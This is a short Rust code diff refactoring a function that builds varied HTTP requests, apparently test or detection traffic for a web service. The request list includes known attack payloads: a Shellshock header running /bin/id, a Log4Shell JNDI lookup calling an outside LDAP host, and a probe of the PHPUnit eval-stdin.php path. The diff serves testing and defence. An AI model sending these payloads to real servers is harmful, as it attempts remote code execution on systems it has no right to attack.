@@ -83,6 +83,7 @@ fn odd_requests(program: &Program) {
     let crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
     let shellshock = "() { :; }; /bin/id";
     let log4shell = "${jndi:ldap://198.51.100.7/a}";
+    let versioned = format!("X-Api-Version: {log4shell}");
     for number in 0..12 {
         let product = format!("/api/v1/products?page={number}");
         for (target, agent, more) in [
@@ -90,9 +91,9 @@ fn odd_requests(program: &Program) {
             ("/logo.png", chrome, "Accept: image/avif"),
             ("/help", chrome, "Accept: application/json"),
             ("/help", "", "Accept: */*"),
-            (&product, crawler, "Accept: */*"),
-            (&product, "curl/8.5.0", "Accept: */*"),
-            (&product, chrome, &format!("X-Api-Version: {log4shell}")),
+            (product.as_str(), crawler, "Accept: */*"),
+            (product.as_str(), "curl/8.5.0", "Accept: */*"),
+            (product.as_str(), chrome, versioned.as_str()),
             ("/cgi-bin/status", shellshock, "Accept: */*"),
             ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "curl/8.5.0", "Accept: */*"),
             (
